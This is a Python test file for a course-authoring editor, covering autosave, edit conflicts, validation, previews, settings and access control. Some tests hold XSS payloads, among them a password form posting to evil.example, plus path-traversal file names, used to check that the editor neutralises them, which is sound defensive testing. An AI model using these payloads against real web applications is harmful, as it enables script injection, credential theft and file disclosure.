"""The editor of an item: what is shown, saved, refused, and what happens when two people write in one text."""

import json
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest
from flask.testing import FlaskClient

from lms.authoring.queries.courses import StudioCourse
from lms.authoring.queries.documents import course_files
from lms.authoring.queries.files import draft_files, draft_texts
from lms.authoring.rules.media import digest_of_item
from lms.authoring.rules.outline import item_of
from lms.authoring.services.items import save_page
from lms.authoring.services.outline import add_item
from lms.core.db import db
from lms.packages.pages import split_page
from tests.factories.accounts import a_person, an_instructor
from tests.statements import Statements

PAGE = "items/what-is-in-it.en.md"
NOW = datetime(2026, 11, 24, 9, 0, tzinfo=UTC)


def at(course: StudioCourse, *parts: str) -> str:
    return f"/studio/{course.slug}/what-is-in-it/" + "/".join(parts)


def digest(course: StudioCourse) -> str:
    return draft_files(course.id)[PAGE].digest


def text(course: StudioCourse) -> tuple[str, str]:
    return split_page(draft_texts(course.id, [PAGE])[PAGE].text)


def sent(course: StudioCourse, **changes: str) -> dict[str, str]:
    return {"seen": digest(course), "title": "What is in it", "text": "A new text.", **changes}


def test_the_editor_shows_title_text_and_how_trainees_will_see_it(desk: FlaskClient, course: StudioCourse) -> None:
    page = desk.get(at(course)).get_data(as_text=True)
    title, body = text(course)
    assert f'value="{title}"' in page
    assert digest(course) in page
    assert body.strip().split("\n")[0][:20] in page
    assert 'src="media/parcel.en.svg"' in page
    assert "min to read" in page and "KB with its pictures" in page


def test_a_save_is_acknowledged_with_its_time_and_the_next_digest(desk: FlaskClient, course: StudioCourse) -> None:
    answer = desk.post(at(course, "autosave"), data=sent(course, text="Один параметр.\r\nДва."))
    assert answer.status_code == 200
    assert answer.get_json()["text"].startswith("Saved ")
    assert answer.get_json()["seen"] == digest(course)
    assert text(course) == ("What is in it", "Один параметр.\nДва.\n")


def test_who_comes_second_is_told_by_whom_and_nothing_is_overwritten(desk: FlaskClient, course: StudioCourse) -> None:
    before = sent(course, text="Mine.")
    other = an_instructor(course, printed_name="Rustam Karimov")
    save_page(
        course.id,
        "what-is-in-it",
        "en",
        title="What is in it",
        text="Theirs.",
        seen=before["seen"],
        by=other.id,
        now=NOW,
    )
    db.session.commit()
    answer = desk.post(at(course, "autosave"), data=before)
    assert answer.status_code == 409
    assert answer.get_json()["theirs"].strip() == "Theirs."
    assert answer.get_json()["seen"] == digest(course)
    assert "Rustam Karimov" in answer.get_json()["html"]
    assert "<del>" in answer.get_json()["html"] and "<ins>" in answer.get_json()["html"]
    assert text(course)[1].strip() == "Theirs."
    knowing = desk.post(at(course, "autosave"), data={**before, "seen": answer.get_json()["seen"]})
    assert knowing.status_code == 200
    assert text(course)[1].strip() == "Mine."


def test_without_scripts_a_conflict_keeps_the_text_on_the_page_and_the_next_save_is_a_choice(
    desk: FlaskClient, course: StudioCourse
) -> None:
    before = sent(course, text="Mine.")
    desk.post(at(course, "autosave"), data=sent(course, text="From another window."))
    answer = desk.post(at(course), data=before)
    page = answer.get_data(as_text=True)
    assert answer.status_code == 409
    assert ">Mine.</textarea>" in page.replace("\r\n", "").replace("\n", "")
    assert "You, in another window" in page
    assert text(course)[1].strip() == "From another window."
    assert f'value="{digest(course)}"' in page
    again = desk.post(at(course), data={**before, "seen": digest(course)})
    assert again.status_code == 302
    assert text(course)[1].strip() == "Mine."


def test_an_item_that_was_deleted_meanwhile_is_not_brought_back_by_a_save(
    desk: FlaskClient, course: StudioCourse
) -> None:
    before = sent(course)
    desk.post(f"/studio/{course.slug}/outline/delete", data={"of": "item:what-is-in-it"})
    assert desk.post(at(course, "autosave"), data=before).status_code == 404
    assert PAGE not in draft_files(course.id)


@pytest.mark.parametrize("title", ["", "  ", "x" * 161])
def test_a_title_that_no_package_could_have_is_refused_in_words(
    desk: FlaskClient, course: StudioCourse, title: str
) -> None:
    answer = desk.post(at(course, "autosave"), data=sent(course, title=title))
    assert answer.status_code == 422
    assert answer.get_json()["text"]
    assert text(course)[0] == "What is in it"


def test_looking_records_nothing_and_tells_what_is_wrong_on_which_line(
    desk: FlaskClient, course: StudioCourse, statements: Statements
) -> None:
    before = {path: file.digest for path, file in draft_files(course.id).items()}
    wrong = (
        "## One\n\n#### Three\n\n![](../media/scale.png)\n\n![A map](../media/no-such.png)\n\n::: try\nNever closed."
    )
    answer = desk.post(at(course, "look"), data={"text": wrong})
    facts = answer.get_json()["facts"]
    for line, told in ((3, "follows level 2"), (5, "no alternative text"), (7, "not there"), (9, "never closed")):
        assert f'data-line="{line}"' in facts
        assert told in facts
    assert "<h2>One</h2>" in answer.get_json()["text"]
    assert {path: file.digest for path, file in draft_files(course.id).items()} == before


def test_a_good_text_is_called_good(desk: FlaskClient, course: StudioCourse) -> None:
    answer = desk.post(at(course, "look"), data={"text": "![A scale](../media/scale.png)\n\nOne two three."})
    assert "Nothing wrong with this text." in answer.get_json()["facts"]
    assert "3 words" in answer.get_json()["facts"]
    assert 'src="media/scale.png"' in answer.get_json()["text"]


def test_without_scripts_a_look_keeps_what_was_written_and_saves_nothing(
    desk: FlaskClient, course: StudioCourse
) -> None:
    before = text(course)
    page = desk.post(at(course), data={**sent(course, text="## Only a look"), "do": "look"}).get_data(as_text=True)
    assert "<h2>Only a look</h2>" in page
    assert "## Only a look</textarea>" in page
    assert text(course) == before


def seen_item(course: StudioCourse) -> str:
    return digest_of_item(item_of(course_files(course.id).course, "what-is-in-it"))


HOSTILE = """<script>alert(1)</script>

[x](javascript:alert(1)) <img src=x onerror=alert(1)> <form action=https://evil.example><input name=password></form>

<div id="csrf_token" style="position:fixed">over all</div> ![x](data:image/svg+xml,<svg/onload=alert(1)>)
"""


def test_b01_b04_b06_b07_hostile_text_is_inert_in_the_editor_and_in_every_answer(
    desk: FlaskClient, course: StudioCourse
) -> None:
    evil = "</textarea><script>alert(2)</script>"
    desk.post(at(course, "autosave"), data=sent(course, title='"><b>t</b>', text=HOSTILE + evil))
    page = desk.get(at(course)).get_data(as_text=True)
    look = desk.post(at(course, "look"), data={"text": HOSTILE + evil}).get_json()
    for html in (page, look["text"], look["facts"]):
        assert "<script>alert" not in html
        assert "onerror=alert(1)>" not in html.replace("&gt;", "")
        assert 'href="javascript:' not in html
        assert "<b>t</b>" not in html
    for tag in ("<form", "<input", "<div id=", "<img"):
        assert tag not in look["text"]
    stale = desk.post(at(course, "autosave"), data={**sent(course), "seen": "0" * 64, "text": evil})
    assert stale.status_code == 409
    assert "<script" not in stale.get_json()["html"]
    assert stale.mimetype == "application/json"


def test_a05_nobody_but_the_authors_of_the_course_sees_the_draft_or_its_files(
    course: StudioCourse, new_client: Callable[[], FlaskClient]
) -> None:
    client = new_client()
    addresses = [
        at(course),
        at(course, "state"),
        at(course, "media", "scale.png"),
        f"/studio/{course.slug}/media/scale.png",
    ]
    for address in addresses:
        assert client.get(address).status_code in (302, 403)
    client.sign_in(a_person())  # type: ignore[attr-defined]
    for address in addresses:
        assert client.get(address).status_code == 404
    assert client.post(at(course, "autosave"), data={}).status_code == 404
    assert client.post(at(course, "look"), data={"text": "x"}).status_code == 404


@pytest.mark.parametrize(
    "name", ["..%2fcourse.yaml", "%2e%2e/course.yaml", "..%252fcourse.yaml", "course.yaml", "x", "scale.png%00"]
)
def test_c12_names_of_media_lead_nowhere_else(desk: FlaskClient, course: StudioCourse, name: str) -> None:
    assert desk.get(at(course, "media", name)).status_code in (400, 404)


def test_media_of_a_draft_are_never_active(desk: FlaskClient, course: StudioCourse) -> None:
    answer = desk.get(at(course, "media", "parcel.en.svg"))
    assert answer.status_code == 200
    assert "sandbox" in answer.headers["Content-Security-Policy"]
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_coming_back_to_the_window_tells_whether_it_is_still_the_newest(
    desk: FlaskClient, course: StudioCourse
) -> None:
    before = digest(course)
    assert desk.get(at(course, "state")).get_json()["seen"] == before
    desk.post(at(course, "autosave"), data=sent(course))
    told = desk.get(at(course, "state")).get_json()
    assert told["seen"] == digest(course) != before
    assert "You, in another window" in told["text"]


def test_an_unknown_item_is_not_found(desk: FlaskClient, course: StudioCourse) -> None:
    assert desk.get(f"/studio/{course.slug}/no-such-item/").status_code == 404


def test_settings_of_an_item_are_kept_and_defaults_left_out(desk: FlaskClient, course: StudioCourse) -> None:
    answer = desk.post(at(course, "settings"), data={"seen": seen_item(course), "minutes": "9", "after": ""})
    assert answer.status_code == 302, answer.get_data(as_text=True)
    course_yaml = draft_texts(course.id, ["course.yaml"])["course.yaml"].text
    assert "minutes: 9\n" in course_yaml and "required: false" in course_yaml
    changed = {"seen": seen_item(course), "minutes": "9", "required": "y", "after": ""}
    assert desk.post(at(course, "settings"), data=changed).status_code == 302
    course_yaml = draft_texts(course.id, ["course.yaml"])["course.yaml"].text
    assert course_yaml.count("required: false") == 2  # of the two others that are optional


def test_settings_that_somebody_changed_meanwhile_are_not_overwritten(desk: FlaskClient, course: StudioCourse) -> None:
    before = seen_item(course)
    desk.post(at(course, "settings"), data={"seen": before, "minutes": "9", "required": "y", "after": ""})
    desk.post(f"/studio/{course.slug}/more-to-read/settings", data={"seen": "", "minutes": "1", "after": ""})
    answer = desk.post(at(course, "settings"), data={"seen": before, "minutes": "12", "after": ""})
    assert "Nothing was overwritten" in answer.get_data(as_text=True)
    assert "minutes: 9\n" in draft_texts(course.id, ["course.yaml"])["course.yaml"].text


def test_a_setting_that_cannot_be_is_refused_on_a_page_of_its_own(desk: FlaskClient, course: StudioCourse) -> None:
    answer = desk.post(at(course, "settings"), data={"minutes": "0", "after": "final-quiz"})
    page = answer.get_data(as_text=True)
    assert answer.status_code == 200
    assert "Please check the form" in page and page.count('aria-invalid="true"') == 2


def test_the_editor_costs_as_many_statements_for_a_large_course(
    desk: FlaskClient, course: StudioCourse, me: Any, statements: Statements
) -> None:
    with statements as seen:
        desk.get(at(course))
    few = seen.count
    for number in range(30):
        add_item(course.id, "send", "reading", f"More {number}", by=me.id, now=NOW)
    db.session.commit()
    with statements as seen:
        desk.get(at(course))
    assert seen.count == few <= 16
    with statements as seen:
        desk.post(at(course, "look"), data={"text": json.dumps("x")})
    assert seen.count <= 12
